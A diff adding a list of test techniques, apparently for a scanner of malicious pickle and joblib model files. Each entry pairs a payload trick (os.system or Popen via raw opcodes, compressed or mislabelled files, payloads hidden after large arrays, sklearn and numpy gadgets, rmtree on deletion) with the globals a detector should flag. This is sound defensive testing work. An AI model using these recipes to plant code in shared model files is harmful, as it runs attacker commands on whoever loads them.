+        "opcode_obj_os_system",
+        build_opcode_obj_os_system,
+        OS_SYSTEM,
+        "joblib",
+        description="OBJ os.system(cmd) spliced into a joblib file",
+    ),
+    Technique(
+        "opcode_newobj_marshal_function",
+        build_opcode_newobj_marshal_function,
+        ("marshal.loads", "types.FunctionType", "builtins.function"),
+        "joblib",
+        description="NEWOBJ FunctionType(marshal.loads(code), {}) then REDUCE call",
+    ),
+    Technique(
+        "opcode_newobj_ex_codetype",
+        build_opcode_newobj_ex_codetype,
+        ("types.CodeType", "types.FunctionType", "builtins.code", "builtins.function"),
+        "pickle",
+        description="REDUCE types.CodeType(...), NEWOBJ_EX FunctionType, REDUCE call",
+    ),
+    Technique(
+        "opcode_build_setstate_hijack",
+        build_opcode_build_setstate_hijack,
+        OS_SYSTEM,
+        "joblib",
+        description="BUILD sets __setstate__=os.system on an instance, second BUILD calls it",
+    ),
+    Technique(
+        "opcode_getattr_import_chain",
+        build_opcode_getattr_import_chain,
+        ("builtins.getattr", "builtins.__import__"),
+        "joblib",
+        description="getattr(__import__('os'), 'system')(cmd) as raw opcodes",
+    ),
+    Technique(
+        "opcode_memo_indirection_eval",
+        build_opcode_memo_indirection_eval,
+        EVAL,
+        "pickle",
+        description="eval stashed with LONG_BINPUT, popped, fetched with LONG_BINGET, called",
+    ),
+    Technique(
+        "opcode_dotted_name_in_sklearn_module",
+        build_opcode_dotted_name_in_sklearn_module,
+        ("sklearn.datasets._base.os.system", *OS_SYSTEM),
+        "joblib",
+        description="STACK_GLOBAL('sklearn.datasets._base', 'os.system') dotted lookup",
+    ),
+    Technique(
+        "opcode_copyreg_reconstructor_popen",
+        build_opcode_copyreg_reconstructor_popen,
+        ("subprocess.Popen",),
+        "joblib",
+        description="copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__; .wait()",
+    ),
+    Technique(
+        "opcode_methodcaller_sys_modules",
+        build_opcode_methodcaller_sys_modules,
+        ("operator.methodcaller", "_operator.methodcaller", "sys.modules"),
+        "joblib",
+        description="methodcaller('system', cmd)(methodcaller('get', 'os')(sys.modules))",
+    ),
+    Technique(
+        "opcode_attrgetter_os_path",
+        build_opcode_attrgetter_os_path,
+        ("operator.attrgetter", "_operator.attrgetter"),
+        "pickle",
+        description="attrgetter('os.system')(GLOBAL os.path)(cmd) in a protocol 3 pickle",
+    ),
+    Technique(
+        "after_large_array_reduce",
+        build_after_large_array_reduce,
+        OS_SYSTEM,
+        "joblib",
+        description="os.system recipe stored after a 2 MiB inline array in a joblib file",
+    ),
+    Technique(
+        "after_large_array_opcodes",
+        build_after_large_array_opcodes,
+        OS_SYSTEM,
+        "joblib",
+        description="GLOBAL posix.system fragment spliced after a 2 MiB inline array",
+    ),
+    Technique(
+        "joblib_zlib_exec",
+        build_joblib_zlib_exec,
+        EXEC,
+        "joblib",
+        compression="zlib",
+        description="zlib-compressed joblib forest, builtins.exec",
+    ),
+    Technique(
+        "joblib_gzip_subprocess_run",
+        build_joblib_gzip_subprocess_run,
+        ("subprocess.run",),
+        "joblib",
+        compression="gzip",
+        description="gzip-compressed joblib, subprocess.run(argv)",
+    ),
+    Technique(
+        "joblib_bz2_os_system",
+        build_joblib_bz2_os_system,
+        OS_SYSTEM,
+        "joblib",
+        compression="bz2",
+        description="bz2-compressed joblib, os.system",
+    ),
+    Technique(
+        "joblib_xz_eval",
+        build_joblib_xz_eval,
+        EVAL,
+        "joblib",
+        compression="xz",
+        description="xz-compressed joblib, builtins.eval",
+    ),
+    Technique(
+        "joblib_lzma_runpy",
+        build_joblib_lzma_runpy,
+        ("runpy._run_code",),
+        "joblib",
+        compression="lzma",
+        description="lzma-compressed joblib, runpy._run_code(src, {})",
+    ),
+    Technique(
+        "joblib_lz4_partial",
+        build_joblib_lz4_partial,
+        (*OS_SYSTEM, "functools.partial"),
+        "joblib",
+        compression="lz4",
+        description="lz4-compressed joblib, functools.partial(os.system, cmd)()",
+    ),
+    Technique(
+        "mislabelled_gzip_joblib_as_pkl",
+        build_mislabelled_gzip_joblib_as_pkl,
+        ("pydoc.locate",),
+        "joblib",
+        compression="gzip",
+        description="gzip joblib named model.pkl, pydoc.locate('os.system')(cmd)",
+    ),
+    Technique(
+        "mislabelled_pickle_as_joblib",
+        build_mislabelled_pickle_as_joblib,
+        ("pkgutil.resolve_name",),
+        "pickle",
+        description="plain pickle named model.joblib, pkgutil.resolve_name('os:system')(cmd)",
+    ),
+    Technique(
+        "no_extension_zlib_import_module",
+        build_no_extension_zlib_import_module,
+        ("importlib.import_module", "builtins.getattr"),
+        "joblib",
+        compression="zlib",
+        description="zlib joblib named 'model', getattr(import_module('os'), 'system')(cmd)",
+    ),
+    Technique(
+        "object_array_nested_pickle",
+        build_object_array_nested_pickle,
+        EXEC,
+        "joblib",
+        description="exec recipe inside an object-dtype array (nested pickle in joblib)",
+    ),
+    Technique(
+        "dict_bundle",
+        build_dict_bundle,
+        OS_SYSTEM,
+        "joblib",
+        description="top-level {'model': forest, 'meta': {..., os.system recipe}}",
+    ),
+    Technique(
+        "tuple_bundle_open",
+        build_tuple_bundle_open,
+        ("io.open", "builtins.open", "_io.open"),
+        "pickle",
+        description="top-level (model, open(canary, 'w'))",
+    ),
+    Technique(
+        "nested_pickle_loads",
+        build_nested_pickle_loads,
+        ("_pickle.loads", "pickle.loads"),
+        "joblib",
+        description="pickle.loads(<inner pickle calling os.system>)",
+    ),
+    Technique(
+        "pipeline_nested_step_popen",
+        build_pipeline_nested_step_popen,
+        POPEN,
+        "joblib",
+        description="Popen(argv).wait() on the LogisticRegression step of a Pipeline",
+    ),
+    Technique(
+        "forest_member_compile_exec",
+        build_forest_member_compile_exec,
+        (*EXEC, "builtins.compile", "__builtin__.compile"),
+        "joblib",
+        description="exec(compile(src)) on estimators_[1] of a RandomForestClassifier",
+    ),
+    Technique(
+        "numpy_testing_runstring",
+        build_numpy_testing_runstring,
+        ("numpy.testing._private.utils.runstring",),
+        "joblib",
+        description="numpy.testing._private.utils.runstring(src, {}) (exec in numpy)",
+    ),
+    Technique(
+        "joblib_protocol2_commands_popen",
+        build_joblib_protocol2_commands_popen,
+        POPEN,
+        "joblib",
+        description="joblib protocol 2: Popen written as commands.Popen, then .wait()",
+    ),
+    Technique(
+        "operator_methodcaller_recipe",
+        build_operator_methodcaller_recipe,
+        ("operator.methodcaller", "_operator.methodcaller", "builtins.__import__"),
+        "joblib",
+        compression="zlib",
+        description="methodcaller('system', cmd)(__import__('os')), zlib joblib",
+    ),
+    Technique(
+        "sklearn_funcwrapper_dotted_os_system",
+        build_sklearn_funcwrapper_dotted_os_system,
+        (
+            "sklearn.utils.parallel._FuncWrapper",
+            "sklearn.datasets._base.os.system",
+            *OS_SYSTEM,
+        ),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        description="sklearn _FuncWrapper calls os.system reached as sklearn.datasets._base.os",
+    ),
+    Technique(
+        "sklearn_parallel_run_python_script",
+        build_sklearn_parallel_run_python_script,
+        (
+            "sklearn.utils.parallel.Parallel",
+            "sklearn.utils._testing.assert_run_python_script_without_output",
+        ),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        description="sklearn Parallel runs assert_run_python_script_without_output(src)",
+    ),
+    Technique(
+        "sklearn_funcwrapper_get_data_home_mkdir",
+        build_sklearn_funcwrapper_get_data_home_mkdir,
+        ("sklearn.utils.parallel._FuncWrapper", "sklearn.datasets._base.get_data_home"),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        description="sklearn _FuncWrapper(get_data_home)(path) creates a directory",
+    ),
+    Technique(
+        "joblib_memory_location_mkdir",
+        build_joblib_memory_location_mkdir,
+        ("joblib.memory.Memory",),
+        "pickle",
+        severities=CALL_SEVERITIES,
+        description="joblib.Memory(location) called with arguments creates a directory",
+    ),
+    Technique(
+        "dbm_dumb_del_gadget",
+        build_dbm_dumb_del_gadget,
+        ("dbm.dumb._Database",),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        description="NEWOBJ+BUILD dbm.dumb._Database; its __del__ writes/renames/unlinks files",
+    ),
+    Technique(
+        "numpy_datasource_del_rmtree",
+        build_numpy_datasource_del_rmtree,
+        ("numpy.lib._datasource.DataSource",),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        effect="delete",
+        description="NEWOBJ+BUILD numpy DataSource; its __del__ rmtree()s an attacker path",
+    ),
+]
